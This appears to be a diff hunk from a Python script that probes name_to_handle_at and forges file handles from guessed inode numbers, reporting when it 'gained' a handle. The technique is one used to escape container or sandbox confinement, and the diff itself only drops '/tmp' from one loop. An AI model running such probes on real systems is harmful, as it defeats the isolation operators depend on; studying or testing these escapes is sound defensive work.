@@ -15,7 +15,7 @@ mount = ctypes.c_int()
 for path in (b"/", b"/tmp", b"/usr/lib"):
     if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
         print("GAINED a handle of", path)
-for start in ("/tmp", "/usr/lib", "."):
+for start in ("/usr/lib", "."):
     folder = os.open(start, os.O_RDONLY)
     for inode in (1, 2, 11, 12, 128):
         made_up = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
